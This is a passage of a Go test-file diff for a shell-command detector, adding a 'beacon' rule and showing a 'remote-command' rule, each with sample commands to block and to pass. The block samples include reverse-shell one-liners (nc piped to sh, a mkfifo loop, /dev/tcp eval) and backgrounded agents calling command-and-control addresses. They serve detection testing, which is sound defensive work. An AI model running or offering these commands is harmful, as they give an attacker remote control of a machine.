@@ -15,6 +15,11 @@ var codeSamples = []sample{
 		},
 	},
 	{
+		rule: "beacon", lang: "bash",
+		block: []string{"nohup ./agent -server http://203.0.113.7:8888 &", "/tmp/x --c2 https://198.51.100.4/ &", "setsid ./a tcp://203.0.113.9:1 >/dev/null 2>&1 &"},
+		pass:  []string{"./server --listen http://127.0.0.1:8080 &", "./agent -server https://api.example.com &", "./client http://203.0.113.7/"},
+	},
+	{
 		rule: "remote-command", lang: "bash",
 		block: []string{
 			"nc h.example 1 | sh", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 1 > /tmp/f", "exec 5<>/dev/tcp/h/1; while read l <&5; do eval \"$l\"; done", "nc -l 99 | bash", "bash < /dev/tcp/h.example/1",
